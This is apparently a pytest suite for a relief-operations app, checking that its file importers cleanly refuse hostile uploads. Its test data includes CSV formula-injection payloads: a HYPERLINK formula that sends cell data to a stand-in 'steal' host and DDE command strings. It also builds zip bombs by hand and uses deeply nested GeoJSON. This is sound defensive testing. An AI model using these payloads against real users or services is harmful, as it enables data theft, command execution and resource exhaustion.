"""Hostile and broken files against every importer: a clear error, nothing written, bounded time and memory.

Every importer is run on hand-made bad files (wrong encodings, formula cells, a 10 MB cell, two
million empty lines, zip bombs, truncated workbooks, a .csv that is a zip archive, HXL rows longer
than the header) and on files hypothesis makes up. Each must answer with InvalidInput naming the
problem (row, field and reason), write nothing (every table's row count unchanged; the households
importer keeps its record of the refused file, without the file), and stay within a few seconds
of CPU and a bounded amount of memory.

`make fuzz` (RELIEFOPS_FUZZ=full) runs many more generated cases than `make test` does.
"""

from __future__ import annotations

import csv
import io
import os
import resource
import struct
import time
import tracemalloc
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

import openpyxl
import pytest
import xlsxwriter
from django.apps import apps
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from reliefops.catalog.importers import items_import_file, kits_import_file
from reliefops.cluster.importers import activity_report_import_file, needs_import_file
from reliefops.cluster.importers.reference import activity_types_import_file
from reliefops.cluster.services.boundaries import boundaries_import
from reliefops.core.errors import InvalidInput, ServiceError
from reliefops.households.models import HouseholdImport, ImportStatus
from reliefops.households.services import household_import_preview
from reliefops.partners.importers import grants_import_file, organisations_import_file
from reliefops.places.importers import admin_areas_import_file, sites_import_file
from tests.api.conftest import Reference

CPU_SECONDS = 5.0  # per file, whatever the file
PYTHON_MEMORY = 96 * 1024 * 1024  # peak of Python allocations over the size of the file itself
NATIVE_GROWTH = 256 * 1024 * 1024  # growth of the process's peak memory (calamine's allocations)
MiB = 1024 * 1024

# --- the importers --------------------------------------------------------------------------------


def _households(ref: Reference, data: bytes, name: str) -> Any:
    result = household_import_preview(actor=None, filename=name, content=data)
    if result.batch.status == ImportStatus.REFUSED:
        problems = result.batch.problems
        raise InvalidInput([_problem(p) for p in problems])
    return result


def _problem(p: dict[str, Any]) -> Any:
    from reliefops.core.errors import Problem

    return Problem(p["row"], p["field"], p["reason"])


IMPORTERS: dict[str, Callable[[Reference, bytes, str], Any]] = {
    "admin-areas": lambda ref, data, name: admin_areas_import_file(actor=None, data=data, filename=name),
    "sites": lambda ref, data, name: sites_import_file(actor=None, data=data),
    "organisations": lambda ref, data, name: organisations_import_file(actor=None, data=data),
    "grants": lambda ref, data, name: grants_import_file(actor=None, data=data),
    "items": lambda ref, data, name: items_import_file(actor=None, data=data),
    "kits": lambda ref, data, name: kits_import_file(actor=None, data=data),
    "activity-types": lambda ref, data, name: activity_types_import_file(actor=None, data=data),
    "4w": lambda ref, data, name: activity_report_import_file(
        actor=None, data=data, filename=name, reporting_org_id=ref.iom.pk
    ),
    "needs": lambda ref, data, name: needs_import_file(actor=None, data=data, filename=name),
    "boundaries": lambda ref, data, name: boundaries_import(actor=None, data=data, attribution="test"),
    "households": _households,
}
# The header each importer expects, so that a hand-made case reaches the rows.
HEADERS = {
    "admin-areas": "pcode,name,level,parent_pcode",
    "sites": "code,name,kind,admin_area",
    "organisations": "name,acronym,type",
    "grants": "reference,donor,title,currency,amount",
    "items": "code,name,category",
    "kits": "kit_code,component_code,quantity",
    "activity-types": "code,name,unit",
    "4w": "Row ID,Organisation,Activity,Tehsil P-code,Status,End date,Quantity,Households",
    "needs": "P-code,Households in need",
    "boundaries": "",
    "households": "head_name,head_sex,females_18_59,origin,house_damage,consent",
}
TEXT_IMPORTERS = [name for name in IMPORTERS if name != "boundaries"]
GEOJSON_IMPORTERS = ["admin-areas", "boundaries"]


def _counts() -> dict[str, int]:
    """Rows in every table of the apps that importers write to (the refused-file record aside)."""
    labels = ["places", "partners", "catalog", "cluster", "households"]
    return {
        model._meta.label: model.objects.count()
        for label in labels
        for model in apps.get_app_config(label).get_models()
        if model is not HouseholdImport
    }


@dataclass
class Outcome:
    error: InvalidInput | None
    cpu: float
    python_peak: int
    native_growth: int


def _run(importer: str, ref: Reference, data: bytes, name: str) -> Outcome:
    before_rss = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * 1024
    tracemalloc.start()
    started = time.process_time()
    error: InvalidInput | None = None
    try:
        IMPORTERS[importer](ref, data, name)
    except InvalidInput as exc:
        error = exc
    finally:
        cpu = time.process_time() - started
        _, peak = tracemalloc.get_traced_memory()
        tracemalloc.stop()
    growth = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * 1024 - before_rss
    return Outcome(error, cpu, peak, growth)


def assert_refused(importer: str, ref: Reference, data: bytes, name: str, *, says: str = "") -> InvalidInput:
    """Run the importer on the file and check it is refused cleanly, with a message holding `says`
    (or one of its `|`-separated alternatives); returns the error."""
    before = _counts()
    outcome = _run(importer, ref, data, name)
    assert outcome.error is not None, f"{importer} accepted {name}"
    assert outcome.error.problems, "the refusal lists its problems"
    for problem in outcome.error.problems:
        assert problem.field, problem
        assert problem.reason, problem
    message = "\n".join(str(p) for p in outcome.error.problems)
    assert any(alternative.lower() in message.lower() for alternative in says.split("|")), message
    assert _counts() == before, "a refused file wrote something"
    if importer == "households":
        batch = HouseholdImport.objects.order_by("-pk").first()
        assert batch.status == ImportStatus.REFUSED
        assert bytes(batch.content) == b"", "a refused file of personal data is not kept"
    assert outcome.cpu < CPU_SECONDS, f"{outcome.cpu:.1f} s of CPU"
    assert outcome.python_peak < PYTHON_MEMORY + 3 * len(data), f"{outcome.python_peak / MiB:.0f} MiB"
    assert outcome.native_growth < NATIVE_GROWTH, f"the process grew by {outcome.native_growth / MiB:.0f} MiB"
    return outcome.error


@pytest.fixture
def ref(reference, settings_for_files) -> Reference:
    return reference


@pytest.fixture
def settings_for_files(settings):
    """The production limits, but a smaller decompression limit so that a bomb is stopped sooner."""
    settings.IMPORT_MAX_UNZIPPED = 64 * MiB
    return settings


# --- hand-made files --------------------------------------------------------------------------------


def _csv(importer: str, *rows: str) -> bytes:
    return ("\n".join([HEADERS[importer], *rows]) + "\n").encode()


@pytest.mark.parametrize("importer", TEXT_IMPORTERS)
def test_utf16_text_is_refused_or_read_as_text(ref, importer):
    # given a CSV saved as "Unicode text" (UTF-16 with its byte-order mark) with a formula row
    data = _csv(importer, '=HYPERLINK("http://x.example/steal","open")').decode().encode("utf-16")
    # then it is refused: either for its encoding or for what its rows say
    assert_refused(importer, ref, data, "file.csv")


@pytest.mark.parametrize("importer", TEXT_IMPORTERS)
@pytest.mark.parametrize(
    "cell",
    [
        pytest.param('=HYPERLINK("http://x.example/steal?"&A1,"Click")', id="hyperlink"),
        pytest.param("+cmd|' /C calc'!A0", id="dde"),
        pytest.param("@SUM(1+1)*cmd|' /C calc'!A0", id="at-sum"),
        pytest.param("-2+3+cmd|' /C calc'!A0", id="minus"),
    ],
)
def test_a_formula_cell_is_refused_with_its_row(ref, importer, cell):
    # given a file whose first data row holds a formula in every column
    width = max(1, len(HEADERS[importer].split(",")))
    quoted = '"' + cell.replace('"', '""') + '"'
    data = _csv(importer, ",".join([quoted] * width))
    # when it is imported, then it is refused, and nothing is written
    error = assert_refused(importer, ref, data, "file.csv")
    assert any(p.row is not None for p in error.problems) or importer == "needs"


# A number larger than its column holds (PostgreSQL's integer, small integer or bigint; SQLite's
# 64-bit integer), in every importer that reads a whole number: (importer, header, row, what it says).
TOO_LARGE = [
    ("activity-types", "code,name,unit,sort_order", "ZZ,Zed,kit,40000", "line 2, sort_order: '40000' is out"),
    ("activity-types", "code,name,unit,sort_order", "ZZ,Zed,kit,99999999999999999999", "sort_order: '9999"),
    (
        "admin-areas",
        "pcode,name,level,parent_pcode,elevation_m",
        "PK9,Z,province,PK,3000000000",
        "elevation_m: '3",
    ),
    ("sites", "code,name,kind,admin_pcode,elevation_m", "ZZ-S,Zed,hub,PK504,3000000000", "elevation_m"),
    ("grants", HEADERS["grants"], "G-1,DFID,t,USD,100000000000000000", "line 2, amount: the amount is out"),
    ("grants", HEADERS["grants"], "G-1,DFID,t,USD,1e30", "line 2, amount: the amount is out of range"),
    ("items", "code,name,category,packs", "ZZ,Zed,shelter,bale:5000000000", "line 2, packs: 'bale:50000"),
    ("kits", HEADERS["kits"], "SHELTER-KIT,TENT,5000000000", "line 2, quantity: '5000000000' is out"),
    ("4w", HEADERS["4w"], "R-1,IOM,Tents distributed,PK50401,completed,2005-11-20,1e15,1", "row 2, quantity"),
    (
        "needs",
        "P-code,Households\n#adm2+code,#population+hh",
        "PK521,99999999999999999999",
        "row 3, #population+hh: 99",
    ),
    ("households", HEADERS["households"], "Bashir,male,99999,PK50401,destroyed,yes", "females_18_59"),
]


# A text longer than its column holds (PostgreSQL refuses it; SQLite would keep it).
TOO_LONG = [
    ("admin-areas", "pcode,name,level,parent_pcode", f"PK{'9' * 40},Z,province,PK", "pcode: 'PK99"),
    (
        "admin-areas",
        "pcode,name,level,parent_pcode,cod_version",
        f"PK9,Z,province,PK,{'v' * 70}",
        "cod_version:",
    ),
    ("sites", "code,name,kind,admin_pcode", f"{'Z' * 40},Zed,hub,PK504", "line 2, code: 'ZZZ"),
    ("organisations", HEADERS["organisations"], f"{'Wide ' * 50},ZO,ingo", "line 2, name: longer than"),
    ("items", "code,name,category,base_unit", f"ZZ,Zed,shelter,{'u' * 30}", "line 2, base_unit: longer"),
]


@pytest.mark.parametrize(("importer", "header", "row", "says"), TOO_LONG)
def test_a_text_longer_than_its_column_holds_is_refused_with_its_row(ref, importer, header, row, says):
    assert_refused(importer, ref, f"{header}\n{row}\n".encode(), "texts.csv", says=says)


@pytest.mark.parametrize(("importer", "header", "row", "says"), TOO_LARGE)
def test_a_number_larger_than_its_column_holds_is_refused_with_its_row(ref, importer, header, row, says):
    assert_refused(importer, ref, f"{header}\n{row}\n".encode(), "numbers.csv", says=says)


@pytest.mark.parametrize("importer", TEXT_IMPORTERS)
def test_latin1_text_is_refused_or_read(ref, importer):
    # given a Windows "CSV" with an accented name and a row that cannot be right
    data = _csv(importer, "Café Ñandú,?,?,?,?,?,?,?").decode().encode("latin-1")
    # then the file is refused (the reference importers want UTF-8; the cluster's read Latin-1
    # and then refuse the row)
    assert_refused(importer, ref, data, "file.csv")


@pytest.mark.parametrize("importer", TEXT_IMPORTERS)
def test_a_nul_character_is_refused_with_its_line(ref, importer):
    # given a file whose second line is a NUL byte (full-size fuzzing found the kits importer passed
    # it to PostgreSQL, which cannot store one, and failed with a server error)
    data = _csv(importer, "\x00")
    # then it is refused, naming the line, and nothing is written
    error = assert_refused(importer, ref, data, "file.csv", says="NUL")
    assert any(p.row == 2 for p in error.problems)


@pytest.mark.parametrize("importer", TEXT_IMPORTERS)
def test_a_ten_megabyte_cell_is_refused(ref, importer):
    # given a file with one cell of 10 MB
    data = _csv(importer, "A" * (10 * MiB) + ",x,y")
    # then it is refused, naming the size of the cell
    assert_refused(importer, ref, data, "file.csv", says="field")


@pytest.mark.parametrize("importer", TEXT_IMPORTERS)
def test_two_million_empty_lines_are_refused_quickly(ref, importer):
    # given a header, one row and two million empty lines (2 MB on disk, millions of rows in memory)
    data = _csv(importer, "x,y,z") + b"\n" * 2_000_000
    # then it is refused at once, with the count of lines
    assert_refused(importer, ref, data, "file.csv", says="2,000,00")


@pytest.mark.parametrize("importer", TEXT_IMPORTERS)
def test_a_file_over_the_size_limit_is_refused(ref, importer, settings):
    # given a limit of 1 MiB and a 2 MiB file
    settings.IMPORT_MAX_BYTES = MiB
    data = _csv(importer, *(["a,b,c"] * 350_000))
    # then it is refused before it is parsed
    assert_refused(importer, ref, data, "file.csv", says="at most 1.0 MiB")


@pytest.mark.parametrize("importer", TEXT_IMPORTERS)
def test_hxl_rows_longer_than_the_header_are_refused(ref, importer):
    # given a header, its HXL hashtags, and rows with more values than there are columns
    width = len(HEADERS[importer].split(","))
    tags = ",".join(f"#x+c{i}" for i in range(width))
    long_row = ",".join(["v"] * (width + 3))
    data = _csv(importer, tags, long_row, long_row)
    # then the rows are refused
    assert_refused(importer, ref, data, "file.csv")


def _workbook(rows: list[list[Any]]) -> bytes:
    out = io.BytesIO()
    book = xlsxwriter.Workbook(out, {"in_memory": True, "strings_to_formulas": False})
    sheet = book.add_worksheet("Sheet1")
    for r, row in enumerate(rows):
        for c, value in enumerate(row):
            sheet.write_string(r, c, str(value))
    book.close()
    return out.getvalue()


WORKBOOK_IMPORTERS = ["4w", "needs", "households"]


@pytest.mark.parametrize("importer", WORKBOOK_IMPORTERS)
def test_a_truncated_workbook_is_refused(ref, importer):
    # given a real workbook cut in half
    data = _workbook([HEADERS[importer].split(","), ["a"] * 8])
    # then it is refused as damaged
    assert_refused(importer, ref, data[: len(data) // 2], "file.xlsx")


@pytest.mark.parametrize("importer", WORKBOOK_IMPORTERS)
def test_a_formula_text_cell_in_a_workbook_is_refused(ref, importer):
    # given a workbook whose cells hold formula text
    data = _workbook([HEADERS[importer].split(","), ['=HYPERLINK("http://x.example","a")'] * 8])
    # then it is refused
    assert_refused(importer, ref, data, "file.xlsx", says="formula")


@pytest.mark.parametrize("importer", WORKBOOK_IMPORTERS)
def test_a_huge_cell_in_a_workbook_is_refused(ref, importer, settings):
    # given a limit of 1,000 characters a cell, and a workbook with a cell of 1 MB (calamine reads
    # at most Excel's own 32,767 characters of it)
    settings.IMPORT_MAX_CELL = 1000
    book = openpyxl.Workbook()
    book.active.append(HEADERS[importer].split(","))
    book.active.append(["B" * MiB, "x"])
    out = io.BytesIO()
    book.save(out)
    # then it is refused, naming the length
    assert_refused(importer, ref, out.getvalue(), "file.xlsx", says="characters|field limit (1000)")


def _zip(parts: list[tuple[str, bytes, int, int, int]]) -> bytes:
    """A zip archive from raw parts: (name, deflated data, crc, declared compressed, declared size)."""
    out = io.BytesIO()
    central = io.BytesIO()
    for name, deflated, crc, compressed, size in parts:
        offset = out.tell()
        encoded = name.encode()
        header = struct.pack(
            "<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0, crc, compressed, size, len(encoded), 0
        )
        out.write(header + encoded + deflated)
        central.write(
            struct.pack(
                "<IHHHHHHIIIHHHHHII",
                0x02014B50,
                20,
                20,
                0,
                8,
                0,
                0,
                crc,
                compressed,
                size,
                len(encoded),
                0,
                0,
                0,
                0,
                0,
                offset,
            )
            + encoded
        )
    directory = central.getvalue()
    start = out.tell()
    out.write(directory)
    out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(parts), len(parts), len(directory), start, 0))
    return out.getvalue()


def _deflated_repeat(block: bytes, times: int) -> bytes:
    """Raw deflate data of `block` repeated: each copy is compressed once, independent of the others."""
    one = zlib.compressobj(9, zlib.DEFLATED, -15)
    piece = one.compress(block) + one.flush(zlib.Z_FULL_FLUSH)
    last = zlib.compressobj(9, zlib.DEFLATED, -15)
    return piece * times + last.flush(zlib.Z_FINISH)


def _workbook_shell() -> list[tuple[str, bytes, int, int, int]]:
    """The small parts of a real workbook, to put a hostile sheet beside."""
    real = _workbook([["a"]])
    parts = []
    with zipfile.ZipFile(io.BytesIO(real)) as archive:
        for info in archive.infolist():
            if info.filename == "xl/worksheets/sheet1.xml":
                continue
            raw = archive.read(info)
            squeezed = zlib.compressobj(9, zlib.DEFLATED, -15)
            deflated = squeezed.compress(raw) + squeezed.flush()
            parts.append((info.filename, deflated, zlib.crc32(raw), len(deflated), len(raw)))
    return parts


@pytest.mark.parametrize("importer", WORKBOOK_IMPORTERS)
def test_a_zip_bomb_that_declares_gigabytes_is_refused_unopened(ref, importer):
    # given a workbook whose sheet declares 4 GB once decompressed (1 MB of zeros, 4,000 times)
    sheet = _deflated_repeat(b" " * MiB, 4000)
    data = _zip([*_workbook_shell(), ("xl/worksheets/sheet1.xml", sheet, 0, len(sheet), 0xFFFFFFFF)])
    # then it is refused from its directory, naming the size
    assert_refused(importer, ref, data, "bomb.xlsx", says="zip bomb")


@pytest.mark.parametrize("importer", WORKBOOK_IMPORTERS)
def test_a_zip_bomb_with_a_high_ratio_is_refused_unopened(ref, importer, settings):
    # given a workbook whose 48 MiB sheet is compressed over a thousand times (under the total limit)
    sheet = _deflated_repeat(b" " * MiB, 48)
    data = _zip([*_workbook_shell(), ("xl/worksheets/sheet1.xml", sheet, 0, len(sheet), 48 * MiB)])
    # then it is refused for its ratio
    assert_refused(importer, ref, data, "bomb.xlsx", says="compressed")


@pytest.mark.parametrize("importer", WORKBOOK_IMPORTERS)
def test_a_zip_bomb_that_lies_about_its_size_is_stopped(ref, importer):
    # given a workbook whose sheet says it holds 1 KB but inflates to 512 MiB
    sheet = _deflated_repeat(b" " * MiB, 512)
    data = _zip([*_workbook_shell(), ("xl/worksheets/sheet1.xml", sheet, 0, len(sheet), 1024)])
    # then it is refused without being decompressed beyond the limit
    assert_refused(importer, ref, data, "bomb.xlsx", says="workbook")


@pytest.mark.parametrize("importer", ["4w", "needs", "households", "items", "sites"])
def test_a_csv_that_is_really_a_zip_archive(ref, importer):
    # given a workbook, named .csv, whose rows are wrong
    data = _workbook([HEADERS[importer].split(","), ["?"] * 8])
    # then it is refused, as a workbook or as a file that is not text
    assert_refused(importer, ref, data, "report.csv")


@pytest.mark.parametrize("importer", GEOJSON_IMPORTERS)
@pytest.mark.parametrize(
    ("data", "says"),
    [
        pytest.param(b"[" * 200_000 + b"]" * 200_000, "", id="deeply-nested"),
        pytest.param(
            b'{"type": "FeatureCollection", "features": [' + b"{}," * 20_000 + b"{}]}", "", id="empty"
        ),
        pytest.param(b'{"type": "FeatureCollection", "features": 7}', "", id="features-not-a-list"),
        pytest.param(
            b'{"type":"FeatureCollection","features":[{"type":"Feature","properties":{"pcode":"PK9"},'
            b'"geometry":{"type":"Polygon","coordinates":' + b"[" * 50_000 + b"]" * 50_000 + b"}}]}",
            "",
            id="deep-geometry",
        ),
        pytest.param(b'{"type": "FeatureCollection", "features": [NaN]}', "", id="nan"),
        pytest.param(b"\xff\xfe{\x00}\x00", "", id="utf16"),
    ],
)
def test_hostile_geojson_is_refused(ref, importer, data, says):
    assert_refused(importer, ref, data, "areas.geojson", says=says)


# --- files hypothesis makes up ------------------------------------------------------------------------

# `make test` runs a few examples of each; RELIEFOPS_FUZZ=full (`make fuzz`) runs many.
EXAMPLES = 300 if os.environ.get("RELIEFOPS_FUZZ") == "full" else 25
ANY_FILE_SETTINGS = settings(
    max_examples=EXAMPLES,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)


def _refusal(importer: str, ref: Reference, data: bytes, name: str) -> ServiceError | None:
    """Run the importer: None when it accepts the file, its refusal otherwise (never another error)."""
    try:
        IMPORTERS[importer](ref, data, name)
    except ServiceError as exc:  # InvalidInput, or a refusal of another kind (conflict, not found)
        return exc
    return None


def _says_why(refusal: ServiceError | None) -> None:
    if refusal is None:
        return
    assert refusal.message
    if isinstance(refusal, InvalidInput):
        assert refusal.problems
        assert all(problem.reason for problem in refusal.problems)


@pytest.mark.parametrize("importer", list(IMPORTERS))
@ANY_FILE_SETTINGS
@given(data=st.binary(max_size=2000), suffix=st.sampled_from([".csv", ".xlsx", ".geojson", ""]))
def test_random_bytes_never_break_an_importer(ref, importer, data, suffix):
    _says_why(_refusal(importer, ref, data, "upload" + suffix))


_CELL = st.one_of(
    st.text(max_size=12),
    st.sampled_from(
        ["", "#adm1+code", "#org", "=1+1", "@SUM(A1)", "+cmd|' /C calc'!A0", "PK52201", "2005-11-20"]
    ),
    st.integers(-10, 10**12).map(str),
)


@st.composite
def hxl_tables(draw: Any, importer: str) -> bytes:
    """A CSV with the importer's header or a random one, maybe an HXL row, rows of random length."""
    header = draw(st.one_of(st.just(HEADERS[importer].split(",")), st.lists(_CELL, min_size=1, max_size=6)))
    rows = [header]
    if draw(st.booleans()):
        rows.append(draw(st.lists(st.sampled_from(["#org", "#adm2+code", "#meta+id", "#x", ""]), max_size=9)))
    rows += draw(st.lists(st.lists(_CELL, max_size=10), max_size=8))
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    text = out.getvalue()
    encoding = draw(st.sampled_from(["utf-8", "utf-8-sig", "latin-1", "utf-16"]))
    return text.encode(encoding, errors="replace")


@pytest.mark.parametrize("importer", TEXT_IMPORTERS)
@ANY_FILE_SETTINGS
@given(st.data())
def test_random_hxl_tables_never_break_an_importer(ref, importer, data):
    before = _counts()
    table = data.draw(hxl_tables(importer))
    refusal = _refusal(importer, ref, table, "table.csv")
    # a refused table says why and writes nothing
    _says_why(refusal)
    if refusal is not None:
        assert _counts() == before
